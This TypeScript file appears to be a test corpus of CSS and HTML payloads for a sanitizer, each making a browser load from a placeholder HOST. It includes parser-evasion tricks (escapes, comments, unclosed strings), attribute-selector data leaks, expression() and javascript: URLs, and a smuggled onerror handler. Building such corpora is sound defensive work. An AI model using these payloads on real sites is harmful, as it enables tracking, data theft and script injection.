import type { AttackText } from './attack.ts';

/** Style that loads: each property, each function, each way to spell them. */
export const cssAttacks: readonly AttackText[] = [
  ['style attribute background', '<p style="width:40px;height:40px;display:block;background:url(http://HOST/c)">x</p>'],
  [
    'style attribute background-image',
    '<p style="width:40px;height:40px;display:block;background-image:url(http://HOST/c)">x</p>',
  ],
  [
    'style attribute background with red url',
    '<p style="width:40px;height:40px;display:block;background:red url(\'http://HOST/c\') no-repeat">x</p>',
  ],
  [
    'style attribute background-image with linear-gradient',
    '<p style="width:40px;height:40px;display:block;background-image:linear-gradient(red,red),url(http://HOST/c)">x</p>',
  ],
  [
    'style attribute border-image',
    '<p style="width:40px;height:40px;display:block;border-image:url(http://HOST/c) 9">x</p>',
  ],
  [
    'style attribute border-image-source',
    '<p style="width:40px;height:40px;display:block;border-image-source:url(http://HOST/c);border:9px solid">x</p>',
  ],
  ['style attribute content', '<p style="width:40px;height:40px;display:block;content:url(http://HOST/c)">x</p>'],
  ['style attribute mask', '<p style="width:40px;height:40px;display:block;mask:url(http://HOST/c)">x</p>'],
  ['style attribute mask-image', '<p style="width:40px;height:40px;display:block;mask-image:url(http://HOST/c)">x</p>'],
  [
    'style attribute -webkit-mask',
    '<p style="width:40px;height:40px;display:block;-webkit-mask:url(http://HOST/c)">x</p>',
  ],
  [
    'style attribute -webkit-mask-image',
    '<p style="width:40px;height:40px;display:block;-webkit-mask-image:url(http://HOST/c)">x</p>',
  ],
  [
    'style attribute -webkit-mask-box-image',
    '<p style="width:40px;height:40px;display:block;-webkit-mask-box-image:url(http://HOST/c)">x</p>',
  ],
  [
    'style attribute mask-border',
    '<p style="width:40px;height:40px;display:block;mask-border:url(http://HOST/c);background:url(http://HOST/d)">x</p>',
  ],
  [
    'style attribute -webkit-box-reflect',
    '<p style="width:40px;height:40px;display:block;-webkit-box-reflect:below 0 url(http://HOST/c)">x</p>',
  ],
  [
    'style attribute shape-outside',
    '<p style="width:40px;height:40px;display:block;shape-outside:url(http://HOST/c);float:left">x</p>',
  ],
  ['style attribute filter', '<p style="width:40px;height:40px;display:block;filter:url(http://HOST/c.svg#a)">x</p>'],
  [
    'style attribute backdrop-filter',
    '<p style="width:40px;height:40px;display:block;backdrop-filter:url(http://HOST/c.svg#a);background:url(http://HOST/d)">x</p>',
  ],
  [
    'style attribute clip-path',
    '<p style="width:40px;height:40px;display:block;clip-path:url(http://HOST/c.svg#a)">x</p>',
  ],
  [
    'style attribute offset-path',
    '<p style="width:40px;height:40px;display:block;offset-path:url(http://HOST/c.svg#a);background:url(http://HOST/d)">x</p>',
  ],
  ['style attribute cursor', '<p style="width:40px;height:40px;display:block;cursor:url(http://HOST/c),auto">x</p>'],
  ['list-style', '<ul style="list-style:url(http://HOST/c)"><li>x</ul>'],
  ['list-style-image', '<ul style="list-style-image:url(http://HOST/c)"><li>x</ul>'],
  ['generated content', '<style>p::before{content:url(http://HOST/c)}</style><p>x'],
  ['generated content after', '<style>p::after{content:"a" url(http://HOST/c)}</style><p>x'],
  ['marker content', '<style>li::marker{content:url(http://HOST/c)}</style><ul><li>x</ul>'],
  ['first line background', '<style>p::first-line{background:url(http://HOST/c)}</style><p>x'],
  ['first letter background', '<style>p::first-letter{background:url(http://HOST/c)}</style><p>xyz'],
  ['placeholder background', '<style>input::placeholder{background:url(http://HOST/c)}</style><input placeholder=x>'],
  [
    'file button background',
    '<style>input::file-selector-button{background:url(http://HOST/c)}</style><input type=file>',
  ],
  [
    'scroll bar background',
    '<style>div::-webkit-scrollbar{background:url(http://HOST/c);width:9px}div{overflow:scroll;height:40px}</style><div>x<p style="height:99px"></div>',
  ],
  ['root background', '<style>:root{background:url(http://HOST/c)}</style>'],
  ['body background', '<style>body{background:url(http://HOST/c)}</style><p>x'],
  [
    'backdrop of a dialog',
    '<style>dialog::backdrop{background:url(http://HOST/c)}body{background:url(http://HOST/d)}</style><dialog open>x</dialog>',
  ],
  ['legend background', '<style>legend{background:url(http://HOST/c)}</style><fieldset><legend>x</legend></fieldset>'],
  [
    'attribute selector that spies',
    '<style>input[value^="s"]{background:url(http://HOST/s)}</style><input value=secret>',
  ],
  ['has selector that spies', '<style>body:has(p[title^="s"]){background:url(http://HOST/s)}</style><p title=secret>x'],
  ['media query', '<style>@media screen{p{background:url(http://HOST/c)}}</style><p>x'],
  ['supports rule', '<style>@supports (display:block){p{background:url(http://HOST/c)}}</style><p>x'],
  ['layer rule', '<style>@layer a{p{background:url(http://HOST/c)}}</style><p>x'],
  [
    'container rule',
    '<style>div{container-type:inline-size}@container (width>0px){p{background:url(http://HOST/c)}}</style><div><p>x</div>',
  ],
  ['scope rule', '<style>@scope (body){p{background:url(http://HOST/c)}}</style><p>x'],
  ['nested rule', '<style>body{& p{background:url(http://HOST/c)}}</style><p>x'],
  [
    'starting style',
    '<style>p{transition:background 1s;background:none}@starting-style{p{background:url(http://HOST/c)}}body{background:url(http://HOST/d)}</style><p>x',
  ],
  ['keyframes', '<style>@keyframes a{from,to{background:url(http://HOST/c)}}p{animation:a 9s}</style><p>x'],
  [
    'registered property',
    '<style>@property --u{syntax:"<url>";inherits:false;initial-value:url(http://HOST/c)}p{background:var(--u)}</style><p>x<i style="background:url(http://HOST/d)">y',
  ],
  [
    'page rule beside a background',
    '<style>@page{background:url(http://HOST/p)}p{background:url(http://HOST/c)}</style><p>x',
  ],
  [
    'counter style with a symbol',
    '<style>@counter-style c{system:cyclic;symbols:url(http://HOST/cs)}li{list-style:c;background:url(http://HOST/c)}</style><ul><li>x</ul>',
  ],
  ['font face', '<style>@font-face{font-family:f;src:url(http://HOST/f.woff2)}p{font-family:f}</style><p>x'],
  [
    'font face with a format',
    '<style>@font-face{font-family:f;src:local("x"),url("//HOST/f.woff") format("woff")}p{font-family:f}</style><p>x',
  ],
  [
    'font face for one sign',
    '<style>@font-face{font-family:f;unicode-range:U+58;src:url(http://HOST/x.woff)}p{font-family:f}</style><p>X',
  ],
  [
    'font face in a media query',
    '<style>@media all{@font-face{font-family:f;src:url(http://HOST/f2.woff)}}p{font-family:f}</style><p>x',
  ],
  [
    'font face spelled with escapes',
    '<style>@f\\6fnt-f\\61 ce{font-family:f;src:u\\72l(http://HOST/fe.woff)}p{font-family:f}</style><p>x',
  ],
  ['import', '<style>@import "http://HOST/i.css";</style>'],
  ['import by url()', '<style>@import url(http://HOST/i.css);</style>'],
  ['import by quoted url()', '<style>@import url("http://HOST/i.css");</style>'],
  ['import without a scheme', '<style>@import "//HOST/i.css";</style>'],
  ['import without a semicolon', '<style>@import "http://HOST/i.css"</style>'],
  ['import in single quotes', "<style>@import 'http://HOST/i.css';</style>"],
  ['import without a space', '<style>@import"http://HOST/i.css";</style>'],
  ['import behind a comment', '<style>@import/**/"http://HOST/i.css";</style>'],
  ['import in capitals', '<style>@IMPORT "http://HOST/i.css";</style>'],
  ['import with an escape in its name', '<style>@\\69mport "http://HOST/i.css";</style>'],
  ['import with long escapes', '<style>@\\000069\\00006d port "http://HOST/i.css";</style>'],
  ['import with an escape in its address', '<style>@import "\\68ttp://HOST/i.css";</style>'],
  ['import with a folded address', '<style>@import "ht\\\ntp://HOST/i.css";</style>'],
  ['import with a medium', '<style>@import "http://HOST/i.css" screen;</style>'],
  ['import into a layer', '<style>@import "http://HOST/i.css" layer(a);</style>'],
  ['import that is supported', '<style>@import "http://HOST/i.css" supports(display:block);</style>'],
  ['import after a charset', '<style>@charset "utf-8";@import "http://HOST/i.css";</style>'],
  ['import after a layer list', '<style>@layer a,b;@import "http://HOST/i.css";</style>'],
  ['import behind an HTML comment mark', '<style><!--@import "http://HOST/i.css";--></style>'],
  ['import after an unknown rule', '<style>@layer x;@import url( "http://HOST/i.css" );</style>'],
  ['import with a form feed', '<style>@import\f"http://HOST/i.css";</style>'],
  ['import in a style with a type', '<style type="text/css">@import "http://HOST/i.css";</style>'],
  ['import in a style of a medium', '<style media=screen>@import "http://HOST/i.css";</style>'],
  ['import in two styles', '<style>p{}</style><style>@import "http://HOST/i.css";</style>'],
  ['import in a style in the body', '<body><p>x<style>@import "http://HOST/i.css";</style>'],
  ['import of a data sheet that imports', '<style>@import "data:text/css,@import url(http://HOST/i.css)";</style>'],
  ['image-set of a string', '<p style="width:40px;height:40px;display:block;background:image-set(\'//HOST/c\' 1x)">x'],
  [
    'image-set of a url()',
    '<p style="width:40px;height:40px;display:block;background:image-set(url(http://HOST/c) 1x)">x',
  ],
  [
    'prefixed image-set',
    '<p style="width:40px;height:40px;display:block;background:-webkit-image-set(url(http://HOST/c) 1x)">x',
  ],
  [
    'image-set with a type',
    "<p style=\"width:40px;height:40px;display:block;background:image-set('http://HOST/c' type('image/gif') 1x)\">x",
  ],
  [
    'image-set spelled with escapes',
    '<p style="width:40px;height:40px;display:block;background:im\\61ge-set(\'//HOST/c\' 1x)">x',
  ],
  ['image-set in generated content', '<style>p::before{content:image-set("//HOST/c" 1x)}</style><p>x'],
  [
    'image-set past a good one',
    "<p style=\"width:40px;height:40px;display:block;background:image-set('data:image/gif;base64,R0lGODlhAQABAAAAACw=' 9x,'//HOST/c' 1x)\">x",
  ],
  [
    'image-set of a variable',
    '<style>p{--s:"//HOST/c";background:image-set(var(--s) 1x)}</style><p>x<i style="background:image-set(\'//HOST/d\' 1x)">y',
  ],
  [
    'cross-fade',
    '<p style="width:40px;height:40px;display:block;background:-webkit-cross-fade(url(http://HOST/c),url(http://HOST/d),50%)">x',
  ],
  [
    'image() beside a background',
    '<p style="width:40px;height:40px;display:block;background:image(\'http://HOST/c\');mask:url(http://HOST/d)">x',
  ],
  [
    'src() beside url()',
    '<p style="width:40px;height:40px;display:block;background:src(\'http://HOST/c\');mask:url(http://HOST/d)">x',
  ],
  ['variable', '<p style="width:40px;height:40px;display:block;--u:url(http://HOST/c);background:var(--u)">x'],
  [
    'fallback of a variable',
    '<p style="width:40px;height:40px;display:block;background:var(--none,url(http://HOST/c))">x',
  ],
  [
    'variable of a parent',
    '<div style="--u:url(http://HOST/c)"><p style="width:40px;height:40px;display:block;background:var(--u)">x</div>',
  ],
  [
    'variable with an escape',
    '<p style="width:40px;height:40px;display:block;--u:\\75rl(http://HOST/c);background:var(--u)">x',
  ],
  ['env() fallback', '<p style="width:40px;height:40px;display:block;background:env(none,url(http://HOST/c))">x'],
  [
    'if() function beside a background',
    '<p style="width:40px;height:40px;display:block;background:if(else:url(http://HOST/c));mask:url(http://HOST/d)">x',
  ],
  [
    'attr() beside a background',
    '<style>p{background:image-set(attr(title))}i{background:url(http://HOST/c)}</style><p title="//HOST/d">x<i>y',
  ],
  [
    'custom function beside a background',
    '<style>@function --f(){result:url(http://HOST/c)}p{background:--f()}i{background:url(http://HOST/d)}</style><p>x<i>y',
  ],
  [
    'url() with escape in its name',
    '<p style="width:40px;height:40px;display:block;background:\\75rl(http://HOST/c)">x</p>',
  ],
  [
    'url() with escape in its middle',
    '<p style="width:40px;height:40px;display:block;background:u\\72l(http://HOST/c)">x</p>',
  ],
  [
    'url() with escape and a space',
    '<p style="width:40px;height:40px;display:block;background:ur\\6c (http://HOST/c)">x</p>',
  ],
  [
    'url() with six-digit escape',
    '<p style="width:40px;height:40px;display:block;background:\\000075rl(http://HOST/c)">x</p>',
  ],
  ['url() with capitals', '<p style="width:40px;height:40px;display:block;background:URL(http://HOST/c)">x</p>'],
  [
    'url() with escaped capitals',
    '<p style="width:40px;height:40px;display:block;background:\\55\\52\\4c(http://HOST/c)">x</p>',
  ],
  [
    'url() with escaped letter',
    '<p style="width:40px;height:40px;display:block;background:url(\\68ttp://HOST/c)">x</p>',
  ],
  [
    'url() with escaped colon',
    '<p style="width:40px;height:40px;display:block;background:url(http\\:\\/\\/HOST/c)">x</p>',
  ],
  [
    'url() with escaped slashes',
    '<p style="width:40px;height:40px;display:block;background:url(\\2f\\2f HOST/c)">x</p>',
  ],
  [
    'url() with spaces around',
    '<p style="width:40px;height:40px;display:block;background:url(   http://HOST/c   )">x</p>',
  ],
  [
    'url() with line feeds around',
    '<p style="width:40px;height:40px;display:block;background:url(\n\nhttp://HOST/c\n)">x</p>',
  ],
  [
    'url() with single quotes',
    '<p style="width:40px;height:40px;display:block;background:url(\'http://HOST/c\')">x</p>',
  ],
  [
    'url() with quotes unclosed',
    '<p style="width:40px;height:40px;display:block;background:url(\'http://HOST/c">x</p>',
  ],
  [
    'url() with unclosed at the end',
    '<p style="width:40px;height:40px;display:block;background:url(http://HOST/c">x</p>',
  ],
  [
    'url() with folded string',
    '<p style="width:40px;height:40px;display:block;background:url(\'ht\\\ntp://HOST/c\')">x</p>',
  ],
  [
    'url() with backslashes for slashes',
    '<p style="width:40px;height:40px;display:block;background:url(\'http:\\\\\\\\HOST/c\')">x</p>',
  ],
  ['url() with no scheme', '<p style="width:40px;height:40px;display:block;background:url(//HOST/c)">x</p>'],
  [
    'url() with scheme without slashes',
    '<p style="width:40px;height:40px;display:block;background:url(http:HOST/c)">x</p>',
  ],
  ['url() with TLS', '<p style="width:40px;height:40px;display:block;background:url(https://HOST/c)">x</p>'],
  [
    'url() with tab in its scheme',
    '<p style="width:40px;height:40px;display:block;background:url(\'h\tttp://HOST/c\')">x</p>',
  ],
  [
    'url() with comment before it',
    '<p style="width:40px;height:40px;display:block;background:/**/url(http://HOST/c)">x</p>',
  ],
  [
    'url() with comment with a quote before it',
    '<p style="width:40px;height:40px;display:block;background:/*\'*/url(http://HOST/c)/*\'*/">x</p>',
  ],
  [
    'url() with string with an escaped quote before it',
    '<p style="width:40px;height:40px;display:block;background:url(x\\\'),url(http://HOST/c)">x</p>',
  ],
  [
    'url() with bad url before it',
    '<p style="width:40px;height:40px;display:block;background:url(a\'b),none;background:url(http://HOST/c)">x</p>',
  ],
  [
    'url() with dimension that looks like it before it',
    '<p style="width:40px;height:40px;display:block;background:red;x:1url(a b);background:url(http://HOST/c)">x</p>',
  ],
  [
    'url() with important after it',
    '<p style="width:40px;height:40px;display:block;background:url(http://HOST/c)!important">x</p>',
  ],
  [
    'url() with nothing after it',
    '<p style="width:40px;height:40px;display:block;background:url(http://HOST/c)/0 0">x</p>',
  ],
  ['bad string before a rule', '<style>a{content:"x\n}p{background:url(http://HOST/c)}</style><p>x'],
  [
    'escaped end of a string',
    '<style>a{content:"\\"}p{background:url(http://HOST/c)}"}p{background:url(http://HOST/d)}</style><p>x',
  ],
  ['unclosed comment before the end', '<style>p{background:url(http://HOST/c)}/*</style><p>x'],
  ['comment in a comment', '<style>/* /* */p{background:url(http://HOST/c)}</style><p>x'],
  [
    'string that looks like a comment',
    '<style>a{content:"/*"}p{background:url(http://HOST/c)}b{content:"*/"}</style><p>x',
  ],
  [
    'quote in an unquoted url()',
    '<style>a{background:url(x"y)}p{background:url(http://HOST/c)}b{content:"z"}</style><p>x',
  ],
  [
    'number that swallows a function',
    '<style>a{x:1url(a"b)}p{content:"}i{background:url(http://HOST/c)}/*"}i{display:block;background:url(http://HOST/d)}</style><p>x<i>y',
  ],
  [
    'hash that swallows a function',
    '<style>a{x:#url(a"b)}p{y:"}i{display:block;background:url(http://HOST/d)}</style><p>x<i>y',
  ],
  ['HTML comment mark in a rule', '<style><!-- p{background:url(http://HOST/c)} --></style><p>x'],
  ['NUL in a name', '<style>p{back\0ground:x;background:url(http://HOST/c)}</style><p>x'],
  ['byte order mark', '<style>\ufeffp{x:y}p{background:url(http://HOST/c)}</style><p>x'],
  ['style that ends in an attribute', '<style title="</style>">p{background:url(http://HOST/c)}</style><p>x'],
  ['style in an svg', '<svg><style>p{background:url(http://HOST/c)}</style></svg><p>x'],
  ['style with a closing tag in a string', '<style>p{content:"</style><img src=x: onerror=ALERT>"}</style>'],
  ['style that is unclosed', '<p>x</p><style>p{background:url(http://HOST/c)}'],
  ['stylesheet in a data link', '<link rel=stylesheet href="data:text/css,p{background:url(http://HOST/c)}"><p>x'],
  ['background of a hidden thing', '<div style="visibility:hidden;background:url(http://HOST/c);height:9px">x</div>'],
  [
    'background under an overlay',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:url(http://HOST/c)">x</div>',
  ],
  [
    'background by a bgcolor that is none',
    '<table bgcolor="red" style="background:url(http://HOST/c)"><tr><td>x</table>',
  ],
  ['background of a cell by hand', '<table><td style="background-image:url(&quot;http://HOST/c&quot;)">x</table>'],
  ['background in entities', '<p style="background:&#117;&#114;&#108;(http://HOST/c)">x'],
  [
    'behaviour and binding beside a background',
    '<p style="behavior:url(http://HOST/h.htc);-moz-binding:url(http://HOST/x.xml);background:url(http://HOST/c)">x',
  ],
  ['expression beside a background', '<p style="width:expression(ALERT);background:url(http://HOST/c)">x'],
  ['javascript in a background beside one', '<p style="background:url(javascript:ALERT),url(http://HOST/c)">x'],
];
